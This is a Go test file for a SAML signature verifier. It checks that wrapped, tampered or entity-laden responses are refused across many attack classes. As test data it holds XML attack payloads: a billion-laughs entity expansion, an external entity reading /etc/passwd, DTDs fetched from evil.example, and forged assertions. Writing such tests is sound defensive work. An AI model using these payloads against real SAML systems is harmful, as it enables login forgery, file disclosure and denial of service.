package saml

import (
	"crypto"
	"encoding/base64"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// signedVariants are the three ways in which a response can be signed.
func signedVariants(t testing.TB) map[string]string {
	return map[string]string{
		"assertion": signIt(t, entraResponse, assertionID), "response": signIt(t, entraResponse, responseID), "both": signIt(t, entraResponse, assertionID, responseID),
	}
}

// wantRefusedOrAnna: whatever was done to a signed response, it is refused, or it still says exactly what was signed.
func wantRefusedOrAnna(t *testing.T, name, doc string) (accepted bool) {
	t.Helper()
	got, err := Verify([]byte(doc), testParams())
	if err != nil {
		if reason := reasonOf(err); reason == "" || strings.HasPrefix(reason, "not ") {
			t.Errorf("%s: refused without a reason: %v", name, err)
		}
		return false
	}
	if got.NameID != "anna@contoso.example" || fmt.Sprintf("%+v", got) != fmt.Sprintf("%+v", wantAnna()) {
		t.Errorf("%s: ACCEPTED as %+v", name, got)
	}
	return true
}

// Attack class 1, exhaustively: not only the published places, but every place. In each of the three signed responses the evil twin is put
// before, after and into every element, with no signature, a copied one, and the original inside; and the original is moved there
// while the evil one takes its place.
func TestWrappingInEveryPlace(t *testing.T) {
	t.Parallel()
	p := cut(t)
	object := func(s string) string {
		return `<Object xmlns="` + nsSignature + `">` + s + `</Object>`
	}
	inserts := map[string]string{
		"evil": p.evil, "evil with the signature": p.signedEvil(""), "evil with the original": p.signedEvil(object(p.bare)), "evil around": strings.Replace(p.evil, "</Assertion>", p.assertion+"</Assertion>", 1),
		"evil of the same ID": strings.Replace(p.evil, "_evil", assertionID, 1), "evil with the original's signature and ID": strings.Replace(p.signedEvil(""), `ID="_evil"`, `ID="`+assertionID+`"`, 1),
		"evil in an Object": object(p.evil), "the signature": p.signature,
	}
	tried := 0
	for variant, doc := range signedVariants(t) {
		for _, at := range boundaries(t, doc) {
			for name, insert := range inserts {
				tried++
				if wantRefusedOrAnna(t, fmt.Sprintf("%s, %s at byte %d", variant, name, at), doc[:at]+insert+doc[at:]) {
					t.Errorf("%s, %s at byte %d: an inserted assertion was overlooked", variant, name, at)
				}
			}
		}
		evil := strings.Replace(doc, p.bareIn(t, doc), p.evil, 1)
		for _, at := range boundaries(t, evil) {
			for _, original := range []string{p.assertion, p.bare, object(p.bare)} {
				tried++
				wantRefusedOrAnna(t, fmt.Sprintf("%s, the original moved to byte %d", variant, at), evil[:at]+original+evil[at:])
			}
		}
	}
	if tried < 3000 {
		t.Errorf("only %d places were tried", tried)
	}
}

// bareIn returns the assertion of doc as it stands there.
func (p pieces) bareIn(t *testing.T, doc string) string {
	return between(t, doc, "<Assertion ", "</Assertion>")
}

// boundaries are the offsets before and after every tag.
func boundaries(t *testing.T, doc string) []int {
	t.Helper()
	root, err := scan([]byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	var at []int
	root.walk(func(e *element) {
		at = append(at, e.content, e.contentEnd)
		if e.parent != nil {
			at = append(at, e.start, e.end)
		}
	})
	slices.Sort(at)
	// An empty-element tag has its content behind it, where its sibling's place is.
	return slices.Compact(at)
}

// Attack classes 3 and 4: a comment, a processing instruction or a CDATA section in any text, digests and signatures included.
func TestCommentsInEveryText(t *testing.T) {
	t.Parallel()
	for variant, doc := range signedVariants(t) {
		root, err := scan([]byte(doc))
		if err != nil {
			t.Fatal(err)
		}
		texts := 0
		root.walk(func(e *element) {
			if text, ok := e.text(); !ok || text == "" {
				return
			}
			texts++
			for _, at := range []int{e.content, (e.content + e.contentEnd) / 2, e.contentEnd} {
				for _, what := range []string{"<!---->", "<!-- x -->", "<?x y?>", "<![CDATA[]]>", "<![CDATA[x]]>", "<!ENTITY x 'y'>"} {
					changed := doc[:at] + what + doc[at:]
					if _, err := Verify([]byte(changed), testParams()); reasonOf(err) != "xml" {
						t.Errorf("%s: %s in %s: got %v", variant, what, e.local, err)
					}
				}
			}
		})
		if texts < 12 {
			t.Errorf("%s: only %d texts were tried", variant, texts)
		}
	}
}

// Attack classes 2, 7 and 8: several documents in one, identifiers by way of entities, and entities that grow.
func TestDocumentTypesAndRoots(t *testing.T) {
	t.Parallel()
	doc := signIt(t, entraResponse, assertionID)
	entity := func(decl, use string) string {
		return `<!DOCTYPE r [` + decl + `]>` + strings.Replace(doc, "anna@contoso.example", use, 1)
	}
	laughs := `<!ENTITY l0 "ha">`
	for i := range 12 {
		laughs += fmt.Sprintf(`<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i), 10))
	}
	refuseAll(t, []attack{
		{"billion laughs", entity(laughs, "&l12;"), "xml"},
		{"quadratic blowup", entity(`<!ENTITY a "`+strings.Repeat("a", 10_000)+`">`, strings.Repeat("&a;", 1000)), "xml"},
		{"external entity", entity(`<!ENTITY x SYSTEM "file:///etc/passwd">`, "&x;"), "xml"},
		{"external parameter entity", entity(`<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;`, "x"), "xml"},
		{"external subset", `<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">` + doc, "xml"},
		{"identifier through an entity (CVE-2025-23369)", `<!DOCTYPE r [<!ENTITY idref "` + assertionID + `">]>` + strings.Replace(doc, `ID="`+assertionID+`"`, `ID="&idref;"`, 1), "xml"},
		{"identifier by declaration", `<!DOCTYPE r [<!ATTLIST Subject ID ID #FIXED "` + assertionID + `">]>` + doc, "xml"},
		{"an entity without a document type", strings.Replace(doc, "anna@contoso.example", "&nbsp;", 1), "xml"},
		{"a second root that is signed", strings.Replace(doc, "anna@contoso.example", attackerName, 1) + doc, "xml"},
		{"text after the root", doc + "\nanna", "xml"},
		{"text before the root", "anna" + doc, "xml"},
		{"a second XML declaration", `<?xml version="1.0"?><?xml version="1.0"?>` + doc, "xml"},
		{"a byte order mark inside", strings.Replace(doc, "<Assertion ", "\uFEFF<Assertion ", 1), "structure"},
	})
	// A character reference in an identifier is no trick: it means the character, to every reader.
	if _, err := Verify([]byte(strings.Replace(doc, `ID="`+assertionID+`"`, `ID="&#95;`+assertionID[1:]+`"`, 1)), testParams()); err != nil {
		t.Errorf("character reference in the identifier: %v", err)
	}
}

// Attack classes 6 and 20: attributes under other namespaces, prefixes bound anew below, and elements that only look like those of SAML.
func TestAttributePollutionAndNamespaceConfusion(t *testing.T) {
	t.Parallel()
	doc := signIt(t, entraResponse, responseID)
	evil := strings.Replace(signIt(t, entraResponse, assertionID), "anna@contoso.example", attackerName, 1)
	in := func(tag, attributes string) string { return edit(t, doc, "<"+tag, "<"+tag+" "+attributes, 1) }
	refuseAll(t, []attack{
		{"the identifier under another namespace", in("Assertion", `xmlns:e="urn:e" e:ID="_evil"`), "digest"},
		{"the identifier under the namespace of SAML", in("Assertion", `xmlns:e="`+nsAssertion+`" e:ID="_evil"`), "digest"},
		{"the recipient under another namespace", in("SubjectConfirmationData", `xmlns:e="urn:e" e:Recipient="https://evil.example/"`), "digest"},
		{"an empty namespace on the assertion", edit(t, doc, `xmlns="`+nsAssertion+`"><Issuer>`, `xmlns=""><Issuer>`, 1), "structure"},
		{"the namespace with a trailing slash", edit(t, doc, `xmlns="`+nsAssertion+`"><Issuer>`, `xmlns="`+nsAssertion+`/"><Issuer>`, 1), "structure"},
		{"the namespace in other case", edit(t, doc, `xmlns="`+nsAssertion+`"><Issuer>`, `xmlns="`+strings.ToUpper(nsAssertion)+`"><Issuer>`, 1), "structure"},
		{"the prefix of the protocol bound anew", edit(t, doc, "<samlp:Status>", `<samlp:Status xmlns:samlp="urn:evil">`, 1), "structure"},
		{"the signature's namespace on https", edit(t, evil, `<Signature xmlns="http://www.w3.org`, `<Signature xmlns="https://www.w3.org`, 1), "unsigned"},
		{"an algorithm's name with a space", edit(t, doc, algRSASHA256, algRSASHA256+" ", 1), "signature-algorithm"},
		{"relative namespace on the signed element", in("Assertion", `xmlns:ns="1"`), "xml"},
		{"relative namespace in SignedInfo", edit(t, doc, "<SignedInfo>", `<SignedInfo xmlns:ns="1">`, 1), "xml"},
	})
}

// Attack classes 12 and 19: signatures taken away from any signed response, and good references and signatures used for something else.
func TestSignaturesTakenAwayOrUsedTwice(t *testing.T) {
	t.Parallel()
	all := regexp.MustCompile(`(?s)<Signature .*?</Signature>`)
	both := signIt(t, entraResponse, assertionID, responseID)
	signatures := all.FindAllString(both, -1)
	if len(signatures) != 2 {
		t.Fatalf("%d signatures", len(signatures))
	}
	evil := func(doc string) string { return strings.Replace(doc, "anna@contoso.example", attackerName, 1) }
	for variant, doc := range signedVariants(t) {
		refuseAll(t, []attack{{variant + ": every signature taken away", evil(all.ReplaceAllString(doc, "")), "unsigned"}})
		for _, s := range all.FindAllString(doc, -1) {
			wantRefusedOrAnna(t, variant+": one signature taken away", strings.Replace(doc, s, "", 1))
			wantRefusedOrAnna(t, variant+": one taken away, changed", evil(strings.Replace(doc, s, "", 1)))
			wantRefusedOrAnna(t, variant+": another name for it", evil(strings.NewReplacer("<Signature ", "<Signatures ", "</Signature>", "</Signatures>").Replace(doc)))
		}
	}
	swapped := strings.NewReplacer(signatures[0], signatures[1], signatures[1], signatures[0]).Replace(both)
	good := between(t, signatures[1], "<Reference ", "</Reference>")
	if !strings.Contains(good, assertionID) {
		good = between(t, signatures[0], "<Reference ", "</Reference>")
	}
	base := signIt(t, entraResponse, assertionID)
	idp := rsaOver(t, idpKey().key, crypto.SHA256)
	reference := between(t, base, "<Reference ", "</Reference>")
	second := edit(t, reference, "#"+assertionID, "#_evil", 1)
	refuseAll(t, []attack{
		{"the two signatures exchanged", swapped, "reference"},
		{"a wrong reference after the right one, both signed", resign(t, base, func(s string) string { return edit(t, s, reference, reference+second, 1) }, idp), "signature-shape"},
		{"a wrong reference before the right one, both signed", resign(t, base, func(s string) string { return edit(t, s, reference, second+reference, 1) }, idp), "signature-shape"},
		{"the reference of another document of ours", edit(t, signIt(t, strings.Replace(entraResponse, "anna@", "ben@", 1), assertionID), "<DigestValue>"+digestOf(t, signIt(t, strings.Replace(entraResponse, "anna@", "ben@", 1), assertionID)), "<DigestValue>"+digestOf(t, base), 1), "signature"},
		{"a failure that brings an assertion", evil(strings.Replace(all.ReplaceAllString(base, ""), "status:Success", "status:Responder", 1)), "status"},
	})
}

func digestOf(t *testing.T, doc string) string {
	return strings.TrimSuffix(strings.TrimPrefix(between(t, doc, "<DigestValue>", "</DigestValue>"), "<DigestValue>"), "</DigestValue>")
}

// Attack class 10: further names of algorithms that a verifier could take for nothing to do, or for weaker ones.
func TestAlgorithmsOfNoOne(t *testing.T) {
	t.Parallel()
	base := signIt(t, entraResponse, assertionID)
	idp := rsaOver(t, idpKey().key, crypto.SHA256)
	for _, uri := range []string{
		"http://www.w3.org/2001/04/xmldsig-more#rsa-md5", "http://www.w3.org/2001/04/xmldsig-more#rsa-ripemd160", "http://www.w3.org/2000/09/xmldsig#dsa-sha1", "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1",
		"http://www.w3.org/2001/04/xmldsig-more#hmac-md5", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha384", "none", "", "rsa-sha256", strings.ToUpper(algRSASHA256), algRSASHA256 + "#",
	} {
		doc := resign(t, base, func(s string) string { return edit(t, s, algRSASHA256, uri, 1) }, idp)
		if _, err := Verify([]byte(doc), testParams()); reasonOf(err) != "signature-algorithm" {
			t.Errorf("signature by %q: got %v", uri, err)
		}
	}
	for _, uri := range []string{"http://www.w3.org/2001/04/xmldsig-more#md5", "http://www.w3.org/2001/04/xmldsig-more#sha224", "http://www.w3.org/2001/04/xmlenc#ripemd160", "none", "", "sha256"} {
		doc := resign(t, base, func(s string) string { return edit(t, s, algSHA256, uri, 1) }, idp)
		if _, err := Verify([]byte(doc), testParams()); reasonOf(err) != "digest-algorithm" {
			t.Errorf("digest by %q: got %v", uri, err)
		}
	}
}

// Attack class 22: white space and line ends that one reader keeps and another drops. What is accepted is what was signed, to the byte.
func TestNothingIsTidiedUp(t *testing.T) {
	t.Parallel()
	name := "anna@contoso.example"
	for _, space := range []string{" ", "\t", "\n", "\r\n", "&#xA;", "&#xD;", "&#x20;", "&#xA0;", "\u2003", "\u0085", "&#x85;", "\u200b"} {
		for _, changed := range []string{space + name, name + space} {
			got, err := Verify([]byte(signIt(t, strings.Replace(entraResponse, name, changed, 1), assertionID)), testParams())
			if space == "\u200b" { // is no space, so it is part of the name, which then is nobody's
				if err != nil || got.NameID == name {
					t.Errorf("%q: got %q, %v", changed, got.NameID, err)
				}
			} else if reasonOf(err) != "name-id" {
				t.Errorf("%q: got %q, %v", changed, got.NameID, err)
			}
		}
	}
	for variant, doc := range signedVariants(t) {
		for what, changed := range map[string]string{
			"line ends in the text":       strings.Replace(doc, "Anna Müller", "Anna\r\nMüller", 1),
			"a line end in an attribute":  strings.Replace(doc, `Name="http://schemas.microsoft.com/identity`, `Name="http://schemas.microsoft.com/identity`+"\n", 1),
			"white space between":         strings.Replace(doc, "<Subject>", " <Subject>", 1),
			"another spelling of a quote": strings.Replace(doc, "Müller &amp; S", "Müller &#38; S", 1), // the same characters
			"combining characters":        strings.Replace(doc, "Müller", "Mu\u0308ller", 1),
		} {
			if changed == doc {
				t.Fatalf("%s, %s: nothing was changed", variant, what)
			}
			if same := what == "another spelling of a quote"; wantRefusedOrAnna(t, variant+", "+what, changed) != same {
				t.Errorf("%s, %s: accepted is %v", variant, what, !same)
			}
		}
	}
}

// Attack class 16: there is nothing to decrypt with, wherever an encrypted part stands and whatever is signed around it.
func TestEncryptedPartsAreRefusedEverywhere(t *testing.T) {
	t.Parallel()
	for variant, doc := range signedVariants(t) {
		for _, at := range boundaries(t, doc) {
			for _, name := range []string{"EncryptedAssertion", "EncryptedID", "EncryptedAttribute"} {
				changed := doc[:at] + `<e:` + name + ` xmlns:e="` + nsAssertion + `"></e:` + name + `>` + doc[at:]
				if wantRefusedOrAnna(t, fmt.Sprintf("%s, %s at byte %d", variant, name, at), changed) {
					t.Errorf("%s, %s at byte %d: accepted", variant, name, at)
				}
			}
		}
	}
	only := strings.Replace(entraResponse, between(t, entraResponse, "<Assertion ", "</Assertion>"),
		`<EncryptedAssertion xmlns="`+nsAssertion+`"><x xmlns="http://www.w3.org/2001/04/xmlenc#">`+base64.StdEncoding.EncodeToString(make([]byte, 256))+`</x></EncryptedAssertion>`, 1)
	refuseAll(t, []attack{{"only an encrypted assertion, the response signed", signIt(t, only, responseID), "encrypted"}})
}

// attackClass is a row of the table in DESIGN.md.
var attackClass = regexp.MustCompile(`(?m)^\| (\d+) \|.*\| ([^|]+) \|$`)

// TestEveryAttackClassHasItsTest: the table of DESIGN.md has all 23 classes, each names tests that exist and whose comments name the class; and no
// test claims a class that the table does not give it.
func TestEveryAttackClassHasItsTest(t *testing.T) {
	t.Parallel()
	design, err := os.ReadFile("DESIGN.md")
	if err != nil {
		t.Fatal(err)
	}
	_, table, ok := strings.Cut(string(design), "## The attack classes")
	if !ok {
		t.Fatal("DESIGN.md has no section on the attack classes")
	}
	table, _, _ = strings.Cut(table, "\n## ")
	claimed := classesOfTests(t, ".", "../endpoint/samlsp", "../../test/nodes")
	seen := map[int]bool{}
	listed := map[string][]int{}
	for _, row := range attackClass.FindAllStringSubmatch(table, -1) {
		n, err := strconv.Atoi(row[1])
		if err != nil || seen[n] {
			t.Errorf("class %s twice", row[1])
		}
		seen[n] = true
		for _, name := range strings.Fields(strings.ReplaceAll(row[2], "`", "")) {
			listed[name] = append(listed[name], n)
			if classes, exists := claimed[name]; !exists {
				t.Errorf("class %d names the test %s, which there is not", n, name)
			} else if !slices.Contains(classes, n) {
				t.Errorf("class %d names the test %s, whose comment does not name the class", n, name)
			}
		}
	}
	for n := range 23 {
		if !seen[n+1] {
			t.Errorf("class %d is not in the table", n+1)
		}
	}
	if len(seen) != 23 {
		t.Errorf("the table has %d classes", len(seen))
	}
	for _, name := range slices.Sorted(maps.Keys(claimed)) {
		for _, n := range claimed[name] {
			if !slices.Contains(listed[name], n) {
				t.Errorf("%s claims class %d, but the table does not name it there", name, n)
			}
		}
	}
}

var claims = regexp.MustCompile(`Attack class(?:es)? ([0-9][0-9, and]*)`)

// classesOfTests returns the attack classes that the comments of the test functions in the directories name.
func classesOfTests(t *testing.T, dirs ...string) map[string][]int {
	t.Helper()
	found := map[string][]int{}
	for _, dir := range dirs {
		files, err := filepath.Glob(filepath.Join(dir, "*_test.go"))
		if err != nil || len(files) == 0 {
			t.Fatalf("no tests in %s: %v", dir, err)
		}
		for _, file := range files {
			parsed, err := parser.ParseFile(token.NewFileSet(), file, nil, parser.ParseComments)
			if err != nil {
				t.Fatal(err)
			}
			for _, d := range parsed.Decls {
				f, ok := d.(*ast.FuncDecl)
				if !ok || !strings.HasPrefix(f.Name.Name, "Test") && !strings.HasPrefix(f.Name.Name, "Fuzz") || f.Recv != nil {
					continue
				}
				found[f.Name.Name] = nil
				for _, m := range claims.FindAllStringSubmatch(strings.ReplaceAll(f.Doc.Text(), "\n", " "), -1) {
					for _, word := range regexp.MustCompile(`\d+`).FindAllString(m[1], -1) {
						n, _ := strconv.Atoi(word)
						found[f.Name.Name] = append(found[f.Name.Name], n)
					}
				}
			}
		}
	}
	return found
}
